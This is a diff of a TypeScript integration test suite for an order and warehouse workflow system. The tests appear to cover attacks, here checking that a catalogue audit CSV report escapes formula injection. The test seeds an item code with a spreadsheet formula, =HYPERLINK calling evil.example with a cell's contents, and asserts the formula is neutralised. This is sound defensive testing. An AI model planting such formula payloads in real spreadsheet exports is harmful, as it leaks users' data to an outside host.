@@ -25,6 +25,7 @@ import type { CallRecord } from '../../src/sandbox/core/call-log';
 import { despatchNotifiedSignal, refundNotifiedSignal } from '../../workflows/order';
 import type { InventoryHealth } from '../../workflows/inventory';
 import { droppedCount } from '../../src/metrics/webhooks';
+import { catalogueAuditWorkflow } from '../../workflows/catalogue-audit';
 
 const SECRET = SANDBOX_SECRETS.LOOPLINE_WEBHOOK_SECRET!;
 const OPERATOR = SANDBOX_SECRETS.LOOPLINE_OPS_TOKEN!;
@@ -124,8 +125,10 @@ before(async () => {
   stack = await startStack(env, {
     shopify: true,
     timeScale: TIME_SCALE,
-    // Nothing on a timer touches the warehouse during the attacks: no backstop, no scheduled full read.
+    // Nothing on a timer touches the warehouse during the attacks: no backstop, no scheduled full read, and no
+    // warehouse gateway (its despatch read runs every window; with it, a callback only brings that read forward).
     despatchBackstopMs: 10 * 60_000,
+    peoplevoxYaml: 'gateway: { enabled: false }',
     inventory: { fullReadMinutes: 1440 },
     shopifyConfig: { stockLocations: [71000001] },
     // Brute-force cases come "from" 203.0.113.x through the local proxy, so the test's own address is
@@ -617,11 +620,13 @@ describe('reports: remote ids and cells', () => {
       await stack.control.put('/control/peoplevox/test-client/items', {
         items: [{ itemCode: formula, name: 'x', available: 3 }],
       });
-      const result = (await env.client.workflow.execute('catalogueAuditWorkflow', {
+      const result = await env.client.workflow.execute(catalogueAuditWorkflow, {
         workflowId: `attack-audit-${stack.idPrefix}`,
         taskQueue: stack.config.temporal.taskQueues.orders,
-        args: [{ channels: ['joules'], taskQueue: stack.config.temporal.taskQueues.peoplevox, raiseExceptions: false }],
-      })) as { channels: Array<{ reportCsv: string }> };
+        args: [
+          { channels: ['joules'], taskQueue: stack.config.temporal.taskQueues.peoplevoxBulk, raiseExceptions: false },
+        ],
+      });
       const csv = readFileSync(result.channels[0]!.reportCsv, 'utf8');
       assert.ok(csv.includes(`'=HYPERLINK(""https://evil.example/?x=""&A1)`), 'the cell starts with a quote');
       assert.ok(!/(^|,)"?=HYPERLINK/m.test(csv), 'no cell starts with =');
